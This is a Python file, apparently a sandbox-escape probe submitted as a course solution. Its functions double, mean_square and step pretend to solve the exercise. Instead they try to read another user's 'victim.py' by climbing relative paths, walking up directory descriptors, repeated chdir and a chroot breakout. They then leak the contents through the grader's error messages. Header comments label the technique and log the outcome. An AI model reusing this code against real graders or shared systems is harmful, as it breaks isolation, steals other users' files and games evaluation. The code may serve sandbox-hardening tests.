# technique: climb: up and up from the own folder, by relative paths, by a folder's descriptor, and out of a root of one's own
# live: evidence: above every folder lies the real root
# outcome: raised
# says: no way up
# not at process: reads files, which that level does not stop
import os

BELOW = ["tmp/attacked-world-47113/course/solutions/victim.py", "attacked-world-47113/course/solutions/victim.py"]
BELOW += ["course/solutions/victim.py", "neighbour/victim.py"]


def by_dots():
    """Every height, with every name."""
    for height in range(1, 9):
        for name in BELOW:
            try:
                return open("../" * height + name).read()
            except OSError:
                continue
    raise OSError("no way up by dots")


def by_descriptor():
    folder = os.open(".", os.O_PATH)
    for _ in range(12):
        folder = os.open("..", os.O_PATH | os.O_DIRECTORY, dir_fd=folder)
    return os.read(os.open(BELOW[0], os.O_RDONLY, dir_fd=folder), 10_000).decode()


def by_steps():
    home = os.open(".", os.O_RDONLY)
    try:
        for _ in range(12):
            os.chdir("..")
        return open(BELOW[0]).read()
    finally:
        os.fchdir(home)


def out_of_a_root():
    """Root's old trick: a new root below oneself is none that one could not climb out of."""
    home = os.open(".", os.O_RDONLY)
    os.makedirs("root-47113", exist_ok=True)
    os.chroot("root-47113")
    for _ in range(12):
        os.chdir("..")
    os.chroot(".")
    os.fchdir(home)
    return open("/" + BELOW[0]).read()


def attempt(way):
    try:
        return f"EVIDENCE: {way.__name__}: {way()[-45:].strip()}"
    except OSError as error:
        return f"no way up, {way.__name__}: {error.strerror or error}"


def double(x):
    told = sorted(attempt(way) for way in (by_dots, by_descriptor, by_steps, out_of_a_root))
    print(told)
    raise RuntimeError(told)


def mean_square(x):
    raise RuntimeError(attempt(by_dots))


def step(w, learning_rate):
    raise RuntimeError(attempt(by_steps))
